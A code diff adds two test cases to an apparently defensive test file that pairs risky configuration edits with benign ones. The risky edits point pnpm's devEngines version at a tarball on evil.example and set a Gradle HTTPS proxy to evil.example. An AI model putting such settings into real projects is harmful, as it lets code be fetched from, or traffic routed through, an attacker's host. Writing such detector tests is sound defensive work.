@@ -125,6 +125,13 @@ _CASES: list[tuple[dict[str, str], dict[str, str], str]] = [
      "go test ./..."),
     ({"package.json": _PACKAGE_JSON.replace('"^1"', '"github:someone/vitest"')}, {"package.json": _PACKAGE_JSON},
      "npm install"),
+    ({"package.json": _PACKAGE_JSON[:-1] + ', "devEngines": {"packageManager": {"name": "pnpm",'
+      ' "version": "https://evil.example/pnpm.tgz"}}}'},
+     {"package.json": _PACKAGE_JSON[:-1] + ', "devEngines": {"packageManager": {"name": "pnpm", "version": "^9"}}}'},
+     "pnpm test"),
+    ({"gradle.properties": "org.gradle.jvmargs=-Xmx2g\nsystemProp.https.proxyHost=evil.example\n"},
+     {"gradle.properties": "org.gradle.jvmargs=-Xmx4g -XX:+HeapDumpOnOutOfMemoryError -Dfile.encoding=UTF-8\n"},
+     "./gradlew test"),
 ]  # fmt: skip
 
 
